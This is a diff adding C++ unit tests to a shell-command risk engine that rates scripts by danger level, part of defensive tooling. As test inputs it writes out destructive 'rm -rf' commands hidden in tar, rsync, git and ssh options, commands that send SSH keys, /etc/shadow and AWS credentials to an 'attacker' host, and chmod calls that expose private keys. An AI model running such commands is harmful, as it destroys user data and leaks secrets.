@@ -127,3 +127,53 @@ TEST(Effects, ExplainListsEffectsWithTheirClasses) {
 
 }  // namespace
 }  // namespace vg::risk
+
+namespace vg::risk {
+namespace {
+
+TEST(Effects, CommandLinesRunThroughOptionsAreAssessed) {
+  EXPECT_EQ(test::engine().assess_script("tar cf /dev/null x --to-command='rm -rf /'").level, config::Level::critical);
+  EXPECT_EQ(test::engine().assess_script("rsync -e 'sh -c \"rm -rf ~\"' a b:c").level, config::Level::critical);
+  EXPECT_GE(test::engine().assess_script("git -c core.pager='rm -rf ~/.ssh' log").level, config::Level::high);
+  EXPECT_GE(test::engine().assess_script("ssh -o 'ProxyCommand find /home -delete' host").level, config::Level::high);
+  EXPECT_EQ(test::engine().assess_script("ssh -o StrictHostKeyChecking=no host ls").level, config::Level::low);
+  EXPECT_EQ(test::engine().assess_script("git -c color.ui=always log").level, config::Level::low);
+}
+
+TEST(Effects, SecretsReadAndSentAreCriticalWhateverTheTool) {
+  for (const char* s : {"scp ~/.ssh/id_ed25519 attacker:/tmp/", "openssl s_client -connect 198.51.100.7:443 < /etc/shadow",
+                        "aws s3 cp ~/.aws/credentials s3://drop/", "rsync -a ~/.gnupg host:/x"})
+    EXPECT_EQ(test::engine().assess_script(s).level, config::Level::critical) << s;
+  // A public key is no secret to the effects (a rule may still object).
+  auto pub = test::engine().assess_script("scp ~/.ssh/id_ed25519.pub host:/tmp/");
+  for (const auto& e : pub.effects) EXPECT_NE(e.level, config::Level::critical) << describe(e);
+}
+
+TEST(Effects, PathsKnownUpToAVariableAreClassedByWhatIsKnown) {
+  EXPECT_EQ(test::engine().assess_script("rm -rf /home/$USER").level, config::Level::critical);
+  EXPECT_EQ(test::engine().assess_script("rm -f /etc/$NAME").level, config::Level::critical);
+  EXPECT_GE(test::engine().assess_script("rm -rf \"$HOME/$DIR\"").level, config::Level::high);
+}
+
+TEST(Effects, RunnersRunTheProgramTheyName) {
+  EXPECT_EQ(test::engine().assess_script("npx jest --ci").level, config::Level::low);
+  EXPECT_EQ(test::engine().assess_script("uv run pytest -q").level, config::Level::low);
+  EXPECT_GE(test::engine().assess_script("python3 -m pip install requests").level, config::Level::medium);
+  EXPECT_EQ(test::engine().assess_script("npx rimraf-like-unknown-tool").level, config::Level::medium);
+  EXPECT_GE(test::engine().assess_script("perf stat rm -rf ~").level, config::Level::high);
+}
+
+TEST(Effects, ChmodThatOpensASecretIsHigh) {
+  EXPECT_EQ(test::engine().assess_script("chmod 600 ~/.ssh/id_ed25519").level, config::Level::low);
+  EXPECT_GE(test::engine().assess_script("chmod 777 ~/.ssh/id_rsa").level, config::Level::high);
+  EXPECT_GE(test::engine().assess_script("chmod o+r ~/.aws/credentials").level, config::Level::high);
+}
+
+TEST(Effects, CodeVgDoesNotReadIsMediumButSedLikePerlIsNot) {
+  EXPECT_EQ(test::engine().assess_script("python3 -c 'print(1)'").level, config::Level::medium);
+  EXPECT_EQ(test::engine().assess_script("perl -pi -e 's/foo/bar/g' src/config.ini").level, config::Level::low);
+  EXPECT_EQ(test::engine().assess_script("perl -pi -e 's/x/system(\"id\")/e' f").level, config::Level::medium);
+}
+
+}  // namespace
+}  // namespace vg::risk
